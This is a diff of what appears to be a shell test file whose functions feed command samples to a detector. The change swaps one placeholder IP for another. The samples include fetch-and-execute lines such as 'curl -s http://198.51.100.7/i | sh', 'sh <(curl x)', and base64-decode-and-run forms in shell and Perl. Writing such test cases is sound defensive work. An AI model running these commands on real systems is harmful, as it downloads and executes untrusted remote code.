@@ -46,18 +46,18 @@ servers_start_other_programs() {
 }
 
 downloads_looked_at() {
-    play bash -c 'curl -sO http://192.0.2.1/i'
-    play bash -c 'curl -s http://192.0.2.1/i | sha256sum'
-    play bash -c 'wget -qO- http://192.0.2.1/i >i'
+    play bash -c 'curl -sO http://198.51.100.7/i'
+    play bash -c 'curl -s http://198.51.100.7/i | sha256sum'
+    play bash -c 'wget -qO- http://198.51.100.7/i >i'
     play bash -c 'cat list | sh'
     play bash -c 'diff <(sort a) <(sort b)'
     play bash -c 'base64 -d <key >key.bin'
     play bash -c 'openssl enc -d -aes128 -in a -out b'
-    play editor -c 'curl -s http://192.0.2.1/i | sh; sh <(curl x); base64 -d x | sh'
+    play editor -c 'curl -s http://198.51.100.7/i | sh; sh <(curl x); base64 -d x | sh'
     play editor -c 'exec b64decode'
     play python3 -c 'print(b64decode("aWQ="))'
     play python3 -c 'exec("print(1)")'
-    act make '/usr/local/as/true/bash -c "curl -s http://192.0.2.1/i | sh"
+    act make '/usr/local/as/true/bash -c "curl -s http://198.51.100.7/i | sh"
         /usr/local/as/true/perl -e "eval decode_base64 1"'
 }
 
